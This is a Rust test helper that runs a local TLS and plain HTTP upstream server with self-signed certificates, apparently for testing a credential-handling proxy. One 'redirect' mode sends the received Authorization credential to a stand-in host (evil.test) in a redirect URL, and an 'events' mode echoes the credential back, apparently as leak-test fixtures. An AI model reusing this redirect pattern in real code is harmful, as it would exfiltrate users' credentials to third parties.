//! A TLS service of HTTP/1.1 and HTTP/2 that tells what it got, and knows the credential that it is sent.

use std::{
    convert::Infallible,
    pin::Pin,
    sync::{
        Arc, Mutex,
        atomic::{AtomicUsize, Ordering},
    },
    task::{Context, Poll},
    time::Duration,
};

use bytes::Bytes;
use http_body_util::{BodyExt, Full, combinators::BoxBody};
use hyper::{
    Request, Response,
    body::{Frame, Incoming},
    service::service_fn,
};
use hyper_util::{
    rt::{TokioExecutor, TokioIo},
    server::conn::auto,
};
use tokio::{net::TcpListener, sync::mpsc};
use tokio_rustls::{TlsAcceptor, rustls::ServerConfig};

/// One request, as it came.
#[derive(Clone, Debug)]
pub(crate) struct Got {
    pub(crate) line: String,
    pub(crate) headers: Vec<(String, String)>,
    pub(crate) body: Vec<u8>,
}

impl Got {
    /// A header's value, or nothing.
    pub(crate) fn header(&self, name: &str) -> &str {
        self.headers.iter().find(|(other, _)| other == name).map_or("", |(_, value)| value)
    }
}

/// The service.
pub(crate) struct Upstream {
    pub(crate) port: u16,
    got: Arc<Mutex<Vec<Got>>>,
    bytes: Arc<AtomicUsize>,
}

/// An authority for services, and the certificate of one that goes by all the names that tests use.
pub(crate) struct Certificates {
    pub(crate) ca_pem: String,
    chain: Vec<rustls::pki_types::CertificateDer<'static>>,
    key: Vec<u8>,
}

impl Certificates {
    pub(crate) fn new() -> Self {
        let key = rcgen::KeyPair::generate().unwrap();
        let mut params = rcgen::CertificateParams::new(Vec::<String>::new()).unwrap();
        params.is_ca = rcgen::IsCa::Ca(rcgen::BasicConstraints::Unconstrained);
        let ca = params.self_signed(&key).unwrap();
        let issuer = rcgen::Issuer::new(params, key);
        let names = ["good.localhost", "other.localhost", "127.0.0.1"].map(str::to_owned).to_vec();
        let leaf_key = rcgen::KeyPair::generate().unwrap();
        let leaf = rcgen::CertificateParams::new(names).unwrap().signed_by(&leaf_key, &issuer).unwrap();
        Self { ca_pem: ca.pem(), chain: vec![leaf.der().clone()], key: leaf_key.serialize_der() }
    }

    /// Chain and key (PEM), for a server of Tacit's.
    pub(crate) fn pem(&self) -> (String, String) {
        use base64::Engine;
        let pem = |label: &str, der: &[u8]| {
            let text = base64::engine::general_purpose::STANDARD.encode(der);
            format!("-----BEGIN {label}-----\n{text}\n-----END {label}-----\n")
        };
        (pem("CERTIFICATE", &self.chain[0]), pem("PRIVATE KEY", &self.key))
    }

    fn config(&self) -> ServerConfig {
        let provider = Arc::new(rustls::crypto::aws_lc_rs::default_provider());
        let key = rustls::pki_types::PrivatePkcs8KeyDer::from(self.key.clone());
        let mut config = ServerConfig::builder_with_provider(provider)
            .with_safe_default_protocol_versions()
            .unwrap()
            .with_no_client_auth()
            .with_single_cert(self.chain.clone(), key.into())
            .unwrap();
        config.alpn_protocols = vec![b"h2".to_vec(), b"http/1.1".to_vec()];
        config
    }
}

impl Upstream {
    pub(crate) async fn start(certificates: &Certificates) -> Self {
        Self::start_on(Some(TlsAcceptor::from(Arc::new(certificates.config())))).await
    }

    /// The same without TLS.
    pub(crate) async fn start_plain() -> Self {
        Self::start_on(None).await
    }

    async fn start_on(tls: Option<TlsAcceptor>) -> Self {
        let listener = TcpListener::bind("127.0.0.1:0").await.unwrap();
        let port = listener.local_addr().unwrap().port();
        let upstream = Self { port, got: Arc::default(), bytes: Arc::default() };
        let (got, bytes) = (Arc::clone(&upstream.got), Arc::clone(&upstream.bytes));
        tokio::spawn(async move {
            while let Ok((stream, _)) = listener.accept().await {
                let (tls, got, bytes) = (tls.clone(), Arc::clone(&got), Arc::clone(&bytes));
                let service =
                    service_fn(move |request| answer(request, Arc::clone(&got), Arc::clone(&bytes)));
                tokio::spawn(async move {
                    let builder = auto::Builder::new(TokioExecutor::new());
                    match tls {
                        None => drop(builder.serve_connection(TokioIo::new(stream), service).await),
                        Some(tls) => {
                            let Ok(stream) = tls.accept(stream).await else { return };
                            drop(builder.serve_connection(TokioIo::new(stream), service).await);
                        }
                    }
                });
            }
        });
        upstream
    }

    /// Every request so far.
    pub(crate) fn got(&self) -> Vec<Got> {
        self.got.lock().unwrap().clone()
    }

    /// The last request.
    #[track_caller]
    pub(crate) fn last(&self) -> Got {
        self.got().last().expect("nothing arrived").clone()
    }

    /// Bytes of uploads that arrived so far, whether or not they are at their end.
    pub(crate) fn uploaded(&self) -> usize {
        self.bytes.load(Ordering::Relaxed)
    }
}

type Body = BoxBody<Bytes, Infallible>;

fn whole(text: impl Into<Bytes>) -> Body {
    Full::new(text.into()).boxed()
}

/// A body from pieces that come with pauses.
fn slowly(pieces: Vec<Bytes>, pause: Duration) -> Body {
    let (send, receive) = mpsc::channel(1);
    tokio::spawn(async move {
        for piece in pieces {
            if send.send(piece).await.is_err() {
                return;
            }
            tokio::time::sleep(pause).await;
        }
    });
    Pieces(receive).boxed()
}

/// A body that comes through a channel.
struct Pieces(mpsc::Receiver<Bytes>);

impl hyper::body::Body for Pieces {
    type Data = Bytes;
    type Error = Infallible;

    fn poll_frame(
        mut self: Pin<&mut Self>,
        cx: &mut Context<'_>,
    ) -> Poll<Option<Result<Frame<Bytes>, Infallible>>> {
        self.0.poll_recv(cx).map(|piece| piece.map(|bytes| Ok(Frame::data(bytes))))
    }
}

async fn answer(
    request: Request<Incoming>,
    got: Arc<Mutex<Vec<Got>>>,
    bytes: Arc<AtomicUsize>,
) -> Result<Response<Body>, Infallible> {
    let (parts, mut body) = request.into_parts();
    let headers: Vec<(String, String)> = parts
        .headers
        .iter()
        .map(|(name, value)| (name.to_string(), String::from_utf8_lossy(value.as_bytes()).into_owned()))
        .collect();
    let path = parts.uri.path_and_query().map_or("/", |p| p.as_str()).to_owned();
    let mut read = Vec::new();
    while let Some(Ok(frame)) = body.frame().await {
        if let Ok(data) = frame.into_data() {
            bytes.fetch_add(data.len(), Ordering::Relaxed);
            if read.len() < 4 * 1024 * 1024 {
                read.extend_from_slice(&data);
            }
        }
    }
    let credential = headers.iter().find(|(name, _)| name == "authorization").map(|(_, value)| value.clone());
    let credential = credential.unwrap_or_default();
    got.lock().unwrap().push(Got {
        line: format!("{} {path}", parts.method),
        headers: headers.clone(),
        body: read.clone(),
    });
    let mode = path.trim_start_matches('/').split(['/', '?']).next().unwrap_or_default();
    let mut response = match mode {
        "echo" => {
            let text: String = headers.iter().map(|(name, value)| format!("{name}: {value}\n")).collect();
            Response::new(whole(format!("{path}\n{text}\n{}", String::from_utf8_lossy(&read))))
        }
        "redirect" => {
            let mut response = Response::new(whole("there"));
            *response.status_mut() = hyper::StatusCode::FOUND;
            let location = format!("https://evil.test/?stolen={credential}").replace(' ', "%20");
            response.headers_mut().insert("location", location.parse().unwrap());
            response
        }
        "download" => {
            let pieces = (0..64).map(|_| Bytes::from(vec![b'.'; 64 * 1024])).collect();
            Response::new(slowly(pieces, Duration::ZERO))
        }
        "endless" => {
            let pieces = (0..1000).map(|_| Bytes::from(vec![b'.'; 2048])).collect();
            Response::new(slowly(pieces, Duration::from_millis(20)))
        }
        "events" => {
            let events =
                ["data: one\n\n".to_owned(), format!("data: {credential}\n\n"), "data: three\n\n".to_owned()];
            let mut response =
                Response::new(slowly(events.map(Bytes::from).to_vec(), Duration::from_secs(1)));
            response.headers_mut().insert("content-type", "text/event-stream".parse().unwrap());
            response
        }
        "feed" => {
            let (send, receive) = mpsc::channel(1);
            tokio::spawn(async move {
                let mut told = 0;
                while !send.is_closed() {
                    let all = got.lock().unwrap().clone();
                    for posted in all[told..].iter().filter(|got| got.line.starts_with("POST ")) {
                        let event = [b"data: ", &posted.body[..], b"\n\n"].concat();
                        let _ = send.send(event.into()).await;
                    }
                    told = all.len();
                    tokio::time::sleep(Duration::from_millis(10)).await;
                }
            });
            let mut response = Response::new(Pieces(receive).boxed());
            response.headers_mut().insert("content-type", "text/event-stream".parse().unwrap());
            response
        }
        // What was posted meanwhile, in a header and in the body.
        "posted" => {
            let is_post = |got: &&Got| got.line.starts_with("POST ");
            let posted = loop {
                let posted = got.lock().unwrap().iter().find(is_post).map(|got| got.body.clone());
                match posted {
                    Some(posted) => break posted,
                    None => tokio::time::sleep(Duration::from_millis(10)).await,
                }
            };
            let mut response = Response::new(whole(posted.clone()));
            response.headers_mut().insert("x-posted", posted.try_into().unwrap());
            response
        }
        "slow" => {
            tokio::time::sleep(Duration::from_secs(30)).await;
            Response::new(whole("at last"))
        }
        _ => Response::new(whole("hello")),
    };
    response.headers_mut().insert("x-upstream", "yes".parse().unwrap());
    Ok(response)
}
